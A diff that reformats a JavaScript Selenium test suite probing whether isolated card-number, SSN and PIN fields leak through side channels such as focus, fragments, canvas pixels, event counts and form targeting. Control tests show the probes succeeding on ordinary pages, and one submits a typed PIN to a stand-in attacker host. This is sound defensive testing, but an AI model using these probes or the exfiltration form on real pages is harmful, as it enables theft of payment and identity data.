@@ -1,19 +1,19 @@
 // @ts-check
 // Rows 40 to 44: what a page may measure and move without being let in.
-import assert from "node:assert/strict";
-import { describe } from "node:test";
-import { By } from "selenium-webdriver";
-import { clickOn, press } from "../browser/support/keys.mjs";
-import { until } from "../browser/support/wait.mjs";
-import { CANVAS, EVENT_COUNTS, FRAGMENT_FOCUS } from "./support/features.mjs";
-import { row } from "./support/row.mjs";
-import { useAttackScene } from "./support/scene.mjs";
-import { CARD, OTHER_CARD, PIN, SSN } from "./support/victim.mjs";
+import assert from 'node:assert/strict';
+import { describe } from 'node:test';
+import { By } from 'selenium-webdriver';
+import { clickOn, press } from '../browser/support/keys.mjs';
+import { until } from '../browser/support/wait.mjs';
+import { CANVAS, EVENT_COUNTS, FRAGMENT_FOCUS } from './support/features.mjs';
+import { row } from './support/row.mjs';
+import { useAttackScene } from './support/scene.mjs';
+import { CARD, OTHER_CARD, PIN, SSN } from './support/victim.mjs';
 
-describe("side channels", () => {
+describe('side channels', () => {
   const scene = useAttackScene();
 
-  row("40 frames, history and loads counted", ({ attack, control }) => {
+  row('40 frames, history and loads counted', ({ attack, control }) => {
     const WATCH = `
       window.loads = [];
       for (const type of ["load", "error", "popstate", "hashchange"]) addEventListener(type, (e) => loads.push(type + " " + e.target?.className), true);`;
@@ -26,33 +26,45 @@ describe("side channels", () => {
         resources.map((r) => [r.name, r.transferSize, r.encodedBodySize, r.responseStatus]).toSorted(),
       ]);`;
 
-    attack("the counts are the same for any card that is viewed and revealed", async () => {
+    attack('the counts are the same for any card that is viewed and revealed', async () => {
       const counts = [];
       for (const { id } of [CARD, OTHER_CARD]) {
         const victim = await scene.victimPage();
         await victim.run(WATCH);
-        await scene.open(victim, "card", { token: await scene.tokenFor("card", { id }), input: { paymentCardId: id } });
+        await scene.open(victim, 'card', {
+          token: await scene.tokenFor('card', { id }),
+          input: { paymentCardId: id },
+        });
         await victim.call();
-        await victim.reveal("number");
-        await victim.run("victim.session.hide()");
+        await victim.reveal('number');
+        await victim.run('victim.session.hide()');
         // Each visit is one more in the history of the test's window.
         counts.push(JSON.parse(await victim.run(COUNT)));
       }
-      assert.equal(counts[1][1] - counts[0][1] <= 1, true, "the visit itself and nothing more");
+      assert.equal(counts[1][1] - counts[0][1] <= 1, true, 'the visit itself and nothing more');
       counts.forEach((count) => count.splice(1, 1));
       assert.deepEqual(counts[0], counts[1]);
     });
-    control("of a frame that has a frame for each result, the page knows how many there are", async () => {
-      await scene.visit("/clipboard.html");
-      await scene.driver.executeScript(WATCH);
-      const frame = await scene.embed(scene.evil("frame.html"));
-      await scene.inside(frame, "for (let i = 0; i < 3; i += 1) document.body.append(document.createElement('iframe'));");
-      assert.equal(JSON.parse(await scene.driver.executeScript(COUNT))[3][0][0], 3);
-    });
+    control(
+      'of a frame that has a frame for each result, the page knows how many there are',
+      async () => {
+        await scene.visit('/clipboard.html');
+        await scene.driver.executeScript(WATCH);
+        const frame = await scene.embed(scene.evil('frame.html'));
+        await scene.inside(
+          frame,
+          "for (let i = 0; i < 3; i += 1) document.body.append(document.createElement('iframe'));",
+        );
+        assert.equal(JSON.parse(await scene.driver.executeScript(COUNT))[3][0][0], 3);
+      },
+    );
   });
 
-  row("41 fragments, :target and focus", ({ attack, control }) => {
-    /** Guesses, one fragment after another; after each: where is the focus, and how far is the page scrolled? */
+  row('41 fragments, :target and focus', ({ attack, control }) => {
+    /**
+     * Guesses, one fragment after another; after each: where is the focus, and how far is the page
+     * scrolled?
+     */
     const GUESS = `
       const [frame, guesses, done] = arguments;
       (async () => {
@@ -69,28 +81,62 @@ describe("side channels", () => {
         return seen;
       })().then(done, (error) => done(String(error)));`;
 
-    attack("a right guess looks like a wrong one", async () => {
-      const victim = await scene.viewedCard();
-      const { seen } = await victim.reveal("number");
-      const right = [CARD.number, seen, seen.slice(0, 4), `:~:text=${seen.slice(0, 4)}`, `:~:text=${encodeURIComponent(seen)}`];
-      const wrong = ["9999", "9999 9999 9999 9999", "9999", ":~:text=9999", ":~:text=9999%209999"];
-      const frame = await victim.run("return victim.frame('number')");
-      const look = async (/** @type {string[]} */ guesses) =>
-        victim.wait(GUESS, frame, guesses.map((guess) => `#${guess}`));
-      assert.deepEqual(await look(right), await look(wrong));
-      assert.ok((await victim.shown("number")).revealed, "the field is still there");
-    }, FRAGMENT_FOCUS);
-    control("of a frame whose elements are named after what is in them, a right guess takes the focus", async () => {
-      await scene.visit("/clipboard.html");
-      const frame = await scene.embed(scene.evil("named.html"));
-      const seen = /** @type {any[]} */ (await scene.driver.executeAsyncScript(GUESS, frame, ["#9999"]));
-      assert.deepEqual(seen.map(([hasFocus]) => hasFocus), [false]);
-      await scene.driver.executeScript("document.activeElement?.blur(); window.focus(); arguments[0].src = arguments[0].src.replace('#9999', '#4012')", frame);
-      await until("it has the focus", () => scene.driver.executeScript("return document.activeElement === arguments[0]", frame));
-    }, FRAGMENT_FOCUS);
+    attack(
+      'a right guess looks like a wrong one',
+      async () => {
+        const victim = await scene.viewedCard();
+        const { seen } = await victim.reveal('number');
+        const right = [
+          CARD.number,
+          seen,
+          seen.slice(0, 4),
+          `:~:text=${seen.slice(0, 4)}`,
+          `:~:text=${encodeURIComponent(seen)}`,
+        ];
+        const wrong = [
+          '9999',
+          '9999 9999 9999 9999',
+          '9999',
+          ':~:text=9999',
+          ':~:text=9999%209999',
+        ];
+        const frame = await victim.run("return victim.frame('number')");
+        const look = async (/** @type {string[]} */ guesses) =>
+          victim.wait(
+            GUESS,
+            frame,
+            guesses.map((guess) => `#${guess}`),
+          );
+        assert.deepEqual(await look(right), await look(wrong));
+        assert.ok((await victim.shown('number')).revealed, 'the field is still there');
+      },
+      FRAGMENT_FOCUS,
+    );
+    control(
+      'of a frame whose elements are named after what is in them, a right guess takes the focus',
+      async () => {
+        await scene.visit('/clipboard.html');
+        const frame = await scene.embed(scene.evil('named.html'));
+        const seen = /** @type {any[]} */ (
+          await scene.driver.executeAsyncScript(GUESS, frame, ['#9999'])
+        );
+        assert.deepEqual(
+          seen.map(([hasFocus]) => hasFocus),
+          [false],
+        );
+        await scene.driver.executeScript(
+          "document.activeElement?.blur(); window.focus(); arguments[0].src = arguments[0].src.replace('#9999', '#4012')",
+          frame,
+        );
+        await until('it has the focus', () =>
+          scene.driver.executeScript('return document.activeElement === arguments[0]', frame),
+        );
+      },
+      FRAGMENT_FOCUS,
+    );
   });
 
-  row("42 the pixels of a field", ({ attack, control }) => {
+  row('42 the pixels of a field', ({ attack, control }) => {
     /** Draws markup by way of an SVG into a canvas, and counts the pixels that are not white. */
     const DRAW = `
       const [markup, done] = arguments;
@@ -113,24 +159,35 @@ describe("side channels", () => {
       image.onerror = () => done("not drawn");
       image.src = "data:image/svg+xml," + encodeURIComponent(svg);`;
 
-    attack("a canvas gets none of them", async () => {
-      const victim = await scene.viewedCard();
-      await victim.reveal("number");
-      const markup = await victim.run(
-        "const copy = victim.frame('number').cloneNode(); copy.style.border = '0'; return new XMLSerializer().serializeToString(copy);",
-      );
-      assert.ok([0, "not drawn"].includes(await victim.wait(DRAW, markup)));
-      const drawn = await victim.run(
-        `const canvas = document.createElement("canvas");
+    attack(
+      'a canvas gets none of them',
+      async () => {
+        const victim = await scene.viewedCard();
+        await victim.reveal('number');
+        const markup = await victim.run(
+          "const copy = victim.frame('number').cloneNode(); copy.style.border = '0'; return new XMLSerializer().serializeToString(copy);",
+        );
+        assert.ok([0, 'not drawn'].includes(await victim.wait(DRAW, markup)));
+        const drawn = await victim.run(
+          `const canvas = document.createElement("canvas");
         try { canvas.getContext("2d").drawImage(victim.frame("number"), 0, 0); return "drawn"; } catch (error) { return error.name; }`,
-      );
-      assert.equal(drawn, "TypeError");
-    }, CANVAS);
-    control("of a number in the page it gets them", async () => {
-      await scene.visit("/clipboard.html");
-      const dark = await scene.driver.executeAsyncScript(DRAW, `<p style="font: 24px monospace; color: black">${CARD.number}</p>`);
-      assert.ok(Number(dark) > 100, String(dark));
-    }, CANVAS);
+        );
+        assert.equal(drawn, 'TypeError');
+      },
+      CANVAS,
+    );
+    control(
+      'of a number in the page it gets them',
+      async () => {
+        await scene.visit('/clipboard.html');
+        const dark = await scene.driver.executeAsyncScript(
+          DRAW,
+          `<p style="font: 24px monospace; color: black">${CARD.number}</p>`,
+        );
+        assert.ok(Number(dark) > 100, String(dark));
+      },
+      CANVAS,
+    );
   });
 
   row("43 key strokes counted by the browser's own clocks", ({ attack, control }) => {
@@ -146,29 +203,37 @@ describe("side channels", () => {
       const keys = ["keydown", "keypress", "keyup", "beforeinput", "input"];
       return { counts: keys.map((key) => performance.eventCounts?.get(key) ?? 0), entries: entries.filter((entry) => /key|input$/.test(entry) && !/first/.test(entry)) };`;
 
-    attack("none of an SSN's is counted", async () => {
-      const victim = await scene.victim("ssn");
-      await victim.run(WATCH);
-      const before = await victim.run(COUNT);
-      await victim.type("ssn", SSN);
-      assert.deepEqual(await victim.run(COUNT), before);
-      assert.deepEqual(before.entries, []);
-    }, EVENT_COUNTS);
-    control("in an input of the page each is counted", async () => {
-      const { driver } = scene;
-      await scene.visit("/clipboard.html");
-      await driver.executeScript(WATCH);
-      await clickOn(driver, await driver.findElement(By.css("input")));
-      await press(driver, SSN);
-      // They are counted when the next picture is drawn.
-      await until("each is counted", async () => {
-        const { counts } = /** @type {any} */ (await driver.executeScript(COUNT));
-        return counts[0] >= SSN.length;
-      });
-    }, EVENT_COUNTS);
+    attack(
+      "none of an SSN's is counted",
+      async () => {
+        const victim = await scene.victim('ssn');
+        await victim.run(WATCH);
+        const before = await victim.run(COUNT);
+        await victim.type('ssn', SSN);
+        assert.deepEqual(await victim.run(COUNT), before);
+        assert.deepEqual(before.entries, []);
+      },
+      EVENT_COUNTS,
+    );
+    control(
+      'in an input of the page each is counted',
+      async () => {
+        const { driver } = scene;
+        await scene.visit('/clipboard.html');
+        await driver.executeScript(WATCH);
+        await clickOn(driver, await driver.findElement(By.css('input')));
+        await press(driver, SSN);
+        // They are counted when the next picture is drawn.
+        await until('each is counted', async () => {
+          const { counts } = /** @type {any} */ (await driver.executeScript(COUNT));
+          return counts[0] >= SSN.length;
+        });
+      },
+      EVENT_COUNTS,
+    );
   });
 
-  row("44 fields as the target of links, forms and window.open", ({ attack, control }) => {
+  row('44 fields as the target of links, forms and window.open', ({ attack, control }) => {
     /** Sends something of the page's to a named window, in each of the ways there are. */
     const AIM = `
       const [name, url] = arguments;
@@ -177,23 +242,30 @@ describe("side channels", () => {
       document.body.append(form);
       form.submit();`;
 
-    attack("the field goes away, and takes nothing along", async () => {
-      const victim = await scene.victim("pin");
-      await victim.type("pin", PIN);
+    attack('the field goes away, and takes nothing along', async () => {
+      const victim = await scene.victim('pin');
+      await victim.type('pin', PIN);
       const name = await victim.run("return victim.frame('pin').name");
-      await victim.run(AIM, name, scene.evil("frame.html"));
-      await until("the field is navigated", () => scene.attacker.log().includes("POST /frame.html?form"));
+      await victim.run(AIM, name, scene.evil('frame.html'));
+      await until('the field is navigated', () =>
+        scene.attacker.log().includes('POST /frame.html?form'),
+      );
       await scene.settle();
       assert.ok(!scene.attacker.log().includes(PIN));
-      const heard = await scene.inside(await victim.run("return victim.frame('pin')"), "return JSON.stringify(attacker.heard())").catch(() => "");
+      const heard = await scene
+        .inside(
+          await victim.run("return victim.frame('pin')"),
+          'return JSON.stringify(attacker.heard())',
+        )
+        .catch(() => '');
       assert.ok(!heard.includes(PIN), heard);
       const outcome = await victim.call();
-      assert.ok("error" in outcome, "a PIN without its field is not sent");
+      assert.ok('error' in outcome, 'a PIN without its field is not sent');
     });
     control("a form with an input of the page's own takes it along", async () => {
       const { driver } = scene;
-      await scene.visit("/clipboard.html");
-      await clickOn(driver, await driver.findElement(By.css("input")));
+      await scene.visit('/clipboard.html');
+      await clickOn(driver, await driver.findElement(By.css('input')));
       await press(driver, PIN);
       await driver.executeScript(
         `const frame = document.createElement("iframe");
@@ -205,9 +277,9 @@ describe("side channels", () => {
         input.name = "pin";
         form.append(input);
         form.submit();`,
-        scene.evil("frame.html?plain"),
+        scene.evil('frame.html?plain'),
       );
-      await until("the attacker has it", () => scene.attacker.log().includes(`pin=${PIN}`));
+      await until('the attacker has it', () => scene.attacker.log().includes(`pin=${PIN}`));
     });
   });
 });
